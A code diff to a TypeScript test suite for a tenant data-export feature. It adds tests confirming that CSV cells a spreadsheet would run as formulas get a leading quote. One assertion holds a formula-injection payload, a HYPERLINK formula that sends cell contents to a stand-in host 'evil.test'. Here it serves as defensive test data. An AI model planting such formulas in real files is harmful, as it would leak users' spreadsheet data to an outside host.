@@ -10,7 +10,7 @@ import { EXPORT_ENTITIES, type ExportManifest } from '../domain/export-entities.
 import { exportLinkKey, verifyExportLink } from '../domain/export-links.ts';
 import { forTenant } from '../prisma/tenant-db.ts';
 import { createTestApp, type TestApp } from '../tests/app-harness.ts';
-import { SEALED_SIP_PASSWORD, seedExportTenant, TRICKY_TEXTS } from '../tests/export-fixtures.ts';
+import { FORMULA_TEXTS, SEALED_SIP_PASSWORD, seedExportTenant, TRICKY_TEXTS } from '../tests/export-fixtures.ts';
 import { readZip } from '../tests/export-zip.ts';
 import { startTwilioFake, type TwilioFake } from '../tests/twilio-fake.ts';
 import type { ExportActivities } from './contracts.ts';
@@ -54,7 +54,11 @@ const snake = (key: string) => key.replace(/[A-Z]/g, (c) => `_${c.toLowerCase()}
 // Times are compared as instants: the export writes ISO 8601 in UTC.
 const normal = (row: Row) =>
   Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v instanceof Date ? v.toISOString() : k.endsWith('_at') && typeof v === 'string' ? new Date(v).toISOString() : v]));
-const csvValue = (v: unknown) => (v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v));
+/** A value as the CSV writes it: text a spreadsheet would run as a formula gets a leading quote (numbers stay numbers). */
+const csvValue = (v: unknown) => {
+  const cell = v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v);
+  return typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${cell}` : cell;
+};
 
 /** The tenant's rows as Prisma reads them, keyed like the export's columns. */
 async function dbRows(tenantId: string, entity: string): Promise<Row[]> {
@@ -108,9 +112,21 @@ describe('writeExportArchive', () => {
     expect(raw.toString('utf8')).toContain('"Ann ""The Hammer"" Lee"');
     expect(raw.toString('utf8').split('\r\n')[0]).toBe('\uFEFFid,name,phone,email,notes,created_at,updated_at');
     const names = csvRows('customers').map((r) => r.name);
-    for (const tricky of TRICKY_TEXTS) expect(names).toContain(tricky);
-    expect(csvRows('messages').map((r) => r.body)).toEqual(expect.arrayContaining(TRICKY_TEXTS));
+    for (const tricky of TRICKY_TEXTS) expect(names).toContain(csvValue(tricky));
+    expect(csvRows('messages').map((r) => r.body)).toEqual(expect.arrayContaining(TRICKY_TEXTS.map(csvValue)));
     expect(JSON.parse(csvRows('vehicles')[0]!.details!)).toEqual({ year: expect.any(Number), tags: ['a,b', 'ünï'] });
+  });
+
+  it('escapes cells a spreadsheet would run as a formula (= + - @, tab, CR) with a leading quote in the CSV; the JSON keeps them exactly', async () => {
+    const csvBodies = csvRows('messages').map((r) => r.body);
+    const jsonBodies = jsonRows('messages').map((r) => r.body);
+    for (const formula of FORMULA_TEXTS) {
+      expect(jsonBodies).toContain(formula);
+      expect(csvBodies).toContain(`'${formula}`);
+      expect(csvBodies).not.toContain(formula);
+      expect(csvRows('customers').map((r) => r.name)).toContain(`'${formula}`);
+    }
+    expect(text('messages.csv')).toContain(`"'=HYPERLINK(""https://evil.test/?d=""&A1,""Click for your discount"")"`);
   });
 
   it('conversations: one row per number with counts, first/last text and the opt-out', async () => {
@@ -123,7 +139,7 @@ describe('writeExportArchive', () => {
       expect(new Date(row.last_message_at as string).getTime()).toBe(Math.max(...mine.map((m) => (m.created_at as Date).getTime())));
       expect(row.customer_id).toEqual(expect.any(String)); // every seeded counterpart is a customer
     }
-    expect(csvRows('conversations').find((r) => r.phone === a.optedOut)?.opted_out).toBe('true');
+    expect(csvRows('conversations').find((r) => r.phone === csvValue(a.optedOut))?.opted_out).toBe('true');
   });
 
   it('settings: the business and phone settings, without the SIP password', async () => {
